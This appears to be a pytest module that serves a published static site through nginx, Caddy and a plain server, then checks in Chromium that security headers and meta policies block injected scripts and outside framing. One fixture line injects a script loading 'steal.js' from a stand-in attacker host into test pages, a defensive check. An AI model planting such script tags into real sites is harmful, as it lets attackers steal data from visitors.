"""The published site behind real servers, in a real browser: it works, and what nobody declared is blocked.

`make check-servers` runs this on `public/` and `build/headers/`. The server `none` sends no headers at all, as
GitHub Pages: there the `<meta>` of each page has to do.
"""

from __future__ import annotations

import functools
import http.client
import os
import shutil
import socket
import ssl
import subprocess
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, sync_playwright

from plugins.headers.meta import START
from plugins.headers.servers import read_file
from tests.browser.third_party import CERTIFICATE, SITE_HOST, ThirdParty, serving
from tests.setup_browser import find_browser
from tests.setup_servers import media_types, server
from tests.site_kit import until

ROOT = Path(__file__).resolve().parents[2]
PUBLIC, SNIPPETS = ROOT / "public", ROOT / "build" / "headers"
SITE = f"https://{SITE_HOST}"
EVIL = "evil.example"
INJECTED = f'<script src="https://{EVIL}/steal.js"></script><script>document.title = "taken over"</script>'
REFUSED = "Content Security Policy"

NGINX = """\
{user}
daemon off;
pid {work}/nginx.pid;
error_log {work}/error.log;
events {{}}
http {{
    include {types};
    access_log off;
    client_body_temp_path {work}/body;
    proxy_temp_path {work}/proxy;
    fastcgi_temp_path {work}/fastcgi;
    uwsgi_temp_path {work}/uwsgi;
    scgi_temp_path {work}/scgi;
    server {{
        listen 127.0.0.1:{port} ssl;
        server_name {host};
        ssl_certificate {certificate};
        ssl_certificate_key {certificate};
        charset utf-8;
        root {root};
        error_page 404 /404.html;
        include {snippet};
    }}
}}
"""
CADDY = """\
{{
    admin off
    auto_https off
    storage file_system {work}/storage
}}
https://{host}:{port} {{
    bind 127.0.0.1
    tls {certificate} {certificate}
    root * {root}
    import {snippet}
    handle_errors {{
        rewrite * /404.html
        file_server
    }}
}}
"""


class Running(NamedTuple):
    """A server that runs. name: of the program, or `none` for one that sends no headers."""

    name: str
    port: int


def free_port() -> int:
    """Return a port that nobody listens on."""
    with closing(socket.socket()) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def accepts(port: int) -> bool:
    """Whether somebody listens on a port."""
    with suppress(OSError), closing(socket.create_connection(("127.0.0.1", port), timeout=1)):
        return True
    return False


@contextmanager
def program(name: str, work: Path, root: Path) -> Iterator[int]:
    """Run a real server with the site and the snippet of the build; give its port."""
    path, port = server(name), free_port()
    values = {"work": work, "root": root, "port": port, "host": SITE_HOST, "certificate": CERTIFICATE}
    if name == "nginx":
        user = "user root;" if os.geteuid() == 0 else ""
        text = NGINX.format(snippet=SNIPPETS / "nginx.conf", types=media_types(path), user=user, **values)
        command = [str(path), "-p", str(work), "-c", str(work / "config")]
    else:
        text = CADDY.format(snippet=SNIPPETS / "Caddyfile", **values)
        command = [str(path), "run", "--adapter", "caddyfile", "--config", str(work / "config")]
    (work / "config").write_text(text, "utf-8")
    log = (work / "log").open("wb")
    with log, subprocess.Popen(command, stdout=log, stderr=log, env={**os.environ, "HOME": str(work)}) as process:
        try:
            until(lambda: accepts(port) or process.poll() is not None, f"{name} starts")
            assert process.poll() is None, (work / "log").read_text("utf-8")
            yield port
        finally:
            process.terminate()
            process.wait(10)


class Plain(SimpleHTTPRequestHandler):
    """Sends files as they are, and no header that concerns security."""

    def log_message(self, format: str, *arguments: object) -> None:
        """Say nothing."""


@contextmanager
def plain(root: Path) -> Iterator[int]:
    """Serve the site without any headers; give the port."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(CERTIFICATE)
    web = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Plain, directory=str(root)))
    web.socket = context.wrap_socket(web.socket, server_side=True)
    with serving(web):
        yield int(web.server_address[1])


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The published site, and two pages into which somebody has put a script: one still has its `<meta>`."""
    assert (PUBLIC / "index.html").is_file(), "There is no published site. Run: make check-servers"
    folder = tmp_path_factory.mktemp("site") / "public"
    shutil.copytree(PUBLIC, folder)
    page = (folder / "index.html").read_text("utf-8")
    taken = page.replace("</body>", f"{INJECTED}</body>")
    bare = taken.replace(START, '<meta name="was-policy" content="')
    assert page != taken != bare
    (folder / "injected.html").write_text(taken, "utf-8")
    (folder / "injected-without-meta.html").write_text(bare, "utf-8")
    return folder


@pytest.fixture(scope="module", params=["nginx", "caddy", "none"])
def running(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, root: Path
) -> Iterator[Running]:
    """Each server in turn."""
    work = tmp_path_factory.mktemp(request.param)
    with plain(root) if request.param == "none" else program(request.param, work, root) as port:
        yield Running(request.param, port)


@pytest.fixture(scope="module")
def third_party() -> Iterator[ThirdParty]:
    """The server behind every other host name, which writes down who asks."""
    with serving(ThirdParty()) as web:
        yield web


@pytest.fixture(scope="module")
def browser(running: Running, third_party: ThirdParty) -> Iterator[Browser]:
    """A Chromium for which the site's host is the server that is tried."""
    path = find_browser()
    assert path, "No Chromium was found. Run: make check-servers"
    rules = f"MAP {SITE_HOST} 127.0.0.1:{running.port}, MAP * 127.0.0.1:{third_party.port}"
    arguments = ["--no-sandbox", "--disable-background-networking", "--ignore-certificate-errors"]
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=path, args=[*arguments, f"--host-resolver-rules={rules}"]
        )
        yield chromium
        chromium.close()


@pytest.fixture
def said() -> list[str]:
    """What the browser complained about."""
    return []


@pytest.fixture
def page(browser: Browser, third_party: ThirdParty, said: list[str]) -> Iterator[Page]:
    """A tab in a fresh profile; nobody has been asked for anything."""
    third_party.forget()
    profile = browser.new_context()

    def listen(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            said.append(message.text)

    tab = profile.new_page()
    tab.on("console", listen)
    tab.on("pageerror", lambda error: said.append(str(error)))
    yield tab
    profile.close()


def hosts(third_party: ThirdParty) -> set[str]:
    """Who was asked for anything; Chromium's own errands do not count."""
    return {host for host in third_party.hosts if not host.endswith(("google.com", "googleapis.com", "gvt1.com"))}


def answer(port: int, path: str, encoding: str = "identity") -> tuple[int, dict[str, str], bytes]:
    """Ask a server as a client that believes every certificate."""
    context = ssl._create_unverified_context()  # noqa: S323  # made for these tests, and signed by itself
    connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=10, context=context)
    connection.sock = context.wrap_socket(
        socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname=SITE_HOST
    )
    connection.request("GET", path, headers={"Host": SITE_HOST, "Accept-Encoding": encoding})
    got = connection.getresponse()
    result = got.status, {name.lower(): value for name, value in got.getheaders()}, got.read()
    connection.close()
    return result


def pages_of(root: Path) -> list[str]:
    """The addresses of all pages of the site."""
    names = [path.relative_to(root).as_posix() for path in sorted(root.rglob("*.html"))]
    return [f"/{name.removesuffix('index.html')}" for name in names if not name.startswith("injected")]


def test_every_page_works_and_nothing_complains(
    page: Page, third_party: ThirdParty, root: Path, said: list[str]
) -> None:
    for path in pages_of(root):
        page.goto(SITE + path, wait_until="load")
        assert page.evaluate("document.styleSheets.length > 0 && document.styleSheets[0].cssRules.length > 0"), path
        assert said == [], path
    assert hosts(third_party) == set()


def test_what_is_declared_loads_once_the_visitor_agrees(page: Page, third_party: ThirdParty, said: list[str]) -> None:
    page.goto(SITE)
    page.click("[data-consent-choice=accept]")
    third_party.wait_for("gc.zgo.at", "/count.js")

    assert said == []


@pytest.mark.parametrize("name", ["injected.html", "injected-without-meta.html"])
def test_an_injected_script_does_not_run_and_asks_nobody(
    page: Page, third_party: ThirdParty, running: Running, said: list[str], name: str
) -> None:
    page.goto(f"{SITE}/{name}", wait_until="load")

    is_taken = running.name == "none" and name == "injected-without-meta.html"
    assert (page.title() == "taken over") == is_taken, "only where neither a header nor a <meta> holds"
    assert (EVIL in hosts(third_party)) == is_taken
    assert len([text for text in said if REFUSED in text]) >= (0 if is_taken else 2), said


def test_nobody_else_may_frame_the_site_where_headers_can_say_so(
    page: Page, third_party: ThirdParty, running: Running, said: list[str]
) -> None:
    third_party.answer("other.example", "/", f'<iframe src="{SITE}/about/"></iframe>')
    page.goto("https://other.example/", wait_until="load")

    is_shown = [frame for frame in page.frames if frame.url == f"{SITE}/about/" and frame.query_selector("h1")]
    assert bool(is_shown) == (running.name == "none")
    assert any("frame-ancestors" in text for text in said) == (running.name != "none")


@pytest.mark.parametrize("path", ["/", "/about/", "/theme/css/site.css", "/robots-that-are-not-there.html"])
def test_every_answer_has_every_header(running: Running, root: Path, path: str) -> None:
    wanted = read_file((root / "_headers").read_text("utf-8"))

    status, headers, _ = answer(running.port, path)

    assert status == (404 if "not-there" in path else 200)
    got = {name: headers.get(name.lower()) for name in wanted}
    assert got == (dict.fromkeys(wanted) if running.name == "none" else wanted)
    assert len(wanted) == 6


def test_files_are_sent_as_they_were_packed(running: Running, root: Path) -> None:
    if running.name == "none":
        return
    status, headers, body = answer(running.port, "/about/", "gzip")

    assert (status, headers.get("content-encoding")) == (200, "gzip")
    assert body == (root / "about/index.html.gz").read_bytes()
    assert "accept-encoding" in headers.get("vary", "").lower()
